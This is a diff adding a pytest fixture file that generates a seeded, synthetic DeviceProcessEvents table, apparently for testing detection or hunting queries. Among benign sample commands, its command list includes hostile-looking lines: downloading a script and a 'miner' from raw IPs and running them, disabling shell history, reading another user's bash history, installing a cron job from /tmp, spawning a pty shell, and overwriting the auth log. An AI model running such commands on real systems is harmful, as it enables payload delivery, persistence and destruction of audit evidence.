@@ -1,0 +1,81 @@
+"""Fixtures shared by the engine tests: a small, seeded DeviceProcessEvents table."""
+
+from __future__ import annotations
+
+import datetime as dt
+import random
+import uuid
+from collections.abc import Iterator
+from typing import Any
+
+import pytest
+
+from pytest_ctirealm.engines import EmbeddedEngine
+
+#: The instant `now()` is pinned to in the semantic tests.
+NOW = dt.datetime(2026, 3, 10, 12, 0, tzinfo=dt.UTC)
+
+_COMMANDS = [
+    ("curl", "curl -sSL http://203.0.113.7/x.sh -o /tmp/x.sh"),
+    ("curl", "curl -fsS https://packages.example.com/health"),
+    ("wget", "wget -q http://198.51.100.2/miner -O /tmp/.m"),
+    ("wget", "wget https://mirror.example.org/pkg.tar.gz"),
+    ("bash", "bash /tmp/x.sh"),
+    ("bash", "bash -c 'echo HISTSIZE=0 >> ~/.bashrc'"),
+    ("cat", "cat /proc/version"),
+    ("cat", "cat /home/alice/.bash_history"),
+    ("crontab", "crontab -l"),
+    ("crontab", "crontab /tmp/job"),
+    ("apt-get", "apt-get update"),
+    ("find", "find / -name '*falcon*'"),
+    ("python3", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'"),
+    ("w", "w -h"),
+    ("dd", "dd if=/dev/zero of=/var/log/auth.log"),
+]
+_DEVICES = ["web-01", "web-02", "db-01", "build-07"]
+_ACCOUNTS = ["root", "alice", "svc-deploy", "www-data"]
+_PARENTS = ["bash", "sshd", "cron", "python3", "apt"]
+
+
+def make_process_rows(count: int = 240, seed: int = 7) -> list[dict[str, Any]]:
+    """Seeded rows of DeviceProcessEvents, with varied devices, commands and times."""
+    rng = random.Random(seed)
+    start = NOW - dt.timedelta(days=3)
+    rows = []
+    for index in range(count):
+        name, command = rng.choice(_COMMANDS)
+        timestamp = start + dt.timedelta(seconds=rng.randrange(3 * 24 * 3600))
+        account = rng.choice(_ACCOUNTS)
+        rows.append(
+            {
+                "Timestamp": timestamp,
+                "TimeGenerated": timestamp,
+                "DeviceName": rng.choice(_DEVICES),
+                "DeviceId": f"dev-{rng.randrange(4)}",
+                "FileName": name,
+                "FolderPath": f"/usr/bin/{name}",
+                "ProcessCommandLine": command,
+                "AccountName": account,
+                "InitiatingProcessFileName": rng.choice(_PARENTS),
+                "ProcessId": rng.randrange(100, 60000),
+                "ReportId": index,
+                "AdditionalFields": {
+                    "ProcessPosixEffectiveUser": {"Name": account, "PosixUserId": index % 3},
+                    "tags": ["lab", name],
+                },
+                "InitiatingProcessAccountObjectId": str(uuid.UUID(int=rng.getrandbits(128))),
+            }
+        )
+    return rows
+
+
+@pytest.fixture(scope="session")
+def process_rows() -> list[dict[str, Any]]:
+    return make_process_rows()
+
+
+@pytest.fixture(scope="session")
+def engine(process_rows: list[dict[str, Any]]) -> Iterator[EmbeddedEngine]:
+    """One engine with DeviceProcessEvents loaded, `now()` pinned to NOW."""
+    with EmbeddedEngine.with_tables({"DeviceProcessEvents": process_rows}, now=NOW) as e:
+        yield e
